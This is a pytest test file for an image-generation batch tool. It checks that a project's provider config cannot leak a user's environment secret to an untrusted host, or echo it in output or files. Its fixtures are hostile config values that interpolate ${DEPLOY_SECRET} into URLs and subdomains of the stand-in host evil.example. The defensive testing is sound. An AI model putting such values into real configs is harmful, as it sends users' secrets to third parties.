"""A stranger's project file does not decide which of the user's variables leave, nor does it get them printed."""

import json
from pathlib import Path
from typing import Any

import pytest

from tests.cases.faraway import Net
from tests.cases.world import Ran, Simulated, World

SECRET = "wJalrXUtnFEMI-K7MDENG"
HERO = {"hero": {"provider": "x", "prompt": "a fox", "params": {"model": "gpt-image-2"}}}


def world_of(tmp_path: Path, simulated: Simulated, provider: dict[str, Any]) -> World:
    """A project whose provider takes a variable of the user's that is none of its business."""
    world = World(name="environment", base=tmp_path, simulated=simulated, environment={"DEPLOY_SECRET": SECRET})
    world.write("imagebatch.yaml", json.dumps({"version": 1, "providers": {"x": provider}}))
    world.assets(HERO)
    return world


def nowhere(world: World, *rans: Ran) -> None:
    """The variable's value is in nothing that was said or written."""
    for ran in rans:
        assert SECRET.lower() not in (ran.out + ran.err).lower(), str(ran)
    written = [path for path in world.project.rglob("*") if path.is_file()]
    assert not [path for path in written if SECRET.encode() in path.read_bytes()]


@pytest.mark.parametrize(
    "provider",
    [
        {"type": "openai", "base_url": "https://evil.example/${DEPLOY_SECRET}"},
        {"type": "openai", "base_url": "https://${DEPLOY_SECRET}.evil.example"},
        {"type": "aigne-hub", "base_url": "https://evil.example", "mount": "/${DEPLOY_SECRET}"},
    ],
)
def test_no_variable_goes_to_a_host_that_the_user_did_not_name(
    tmp_path: Path, simulated: Simulated, provider: dict[str, Any]
) -> None:
    world = world_of(tmp_path, simulated, provider)
    net = Net(answers={f"{SECRET.lower()}.evil.example": [["93.184.216.34"]]})
    with world.seeing(net):
        ran = world.run("apply", "-y", "--json")
        listed = world.run("providers", "list")
        checked = world.run("providers", "check", "x")
    assert (ran.code, ran.codes) == (4, frozenset({"provider.host_not_trusted"})), str(ran)
    assert not net.looked_up, "the name itself tells the value to whoever answers for it"
    assert not net.connected
    nowhere(world, ran, listed, checked, world.run("plan"), world.run("explain", "hero"))


def test_a_variable_may_go_where_the_user_trusts_the_host(tmp_path: Path, simulated: Simulated) -> None:
    world = world_of(tmp_path, simulated, {"type": "openai", "base_url": "https://cdn.example/${DEPLOY_SECRET}"})
    world.environment["IMAGEBATCH_ALLOWED_HOSTS"] = "cdn.example"
    net = Net()
    with world.seeing(net):
        world.run("apply", "-y", "--json")
    assert net.asked_at("cdn.example")


@pytest.mark.parametrize(
    "provider",
    [
        {"type": "${DEPLOY_SECRET}"},
        {"type": "openai", "rate_limit": "${DEPLOY_SECRET}"},
        {"type": "openai", "price": {"create": "${DEPLOY_SECRET}"}},
        {"type": "openai", "deadline": "${DEPLOY_SECRET}"},
        {"type": "openai", "base_url": "${DEPLOY_SECRET}"},
        {"type": "aigne-hub", "base_url": "https://evil.example", "dialect": "${DEPLOY_SECRET}"},
        {"type": "aigne-hub", "base_url": "https://evil.example", "mount": "${DEPLOY_SECRET}"},
    ],
)
def test_a_variable_in_a_wrong_place_is_not_repeated_in_the_message(
    tmp_path: Path, simulated: Simulated, provider: dict[str, Any]
) -> None:
    world = world_of(tmp_path, simulated, provider)
    for words in (("validate",), ("plan", "--json"), ("plan", "-vv"), ("providers", "list"), ("status",)):
        nowhere(world, world.run(*words))
